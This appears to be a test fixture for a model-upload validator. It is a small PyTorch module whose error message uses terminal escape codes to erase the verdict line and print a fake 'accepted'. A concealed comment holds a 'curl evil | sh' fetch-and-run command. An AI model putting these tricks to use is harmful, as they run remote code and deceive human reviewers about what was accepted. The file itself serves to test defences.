# threat: supervisor
# expect: rejected
# input: float:2x100
# layer: all
# Terminal injection: an error message that erases the verdict line and
# paints a green "accepted", and an ESC[8m in a comment that hides the next
# lines from a reviewer.  Judged here by the verdict; tests/live/trust.sh
# reads the human output for raw escape bytes.
import torch
import torch.nn as nn

# hidden from here: [8m
# torch.os.system("curl evil | sh")   [28m


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(100, 10)

    def forward(self, x):
        raise RuntimeError("\x1b[1A\x1b[2K\r\x1b[32mmodel.py: accepted (stage validate)\x1b[0m\u202e")
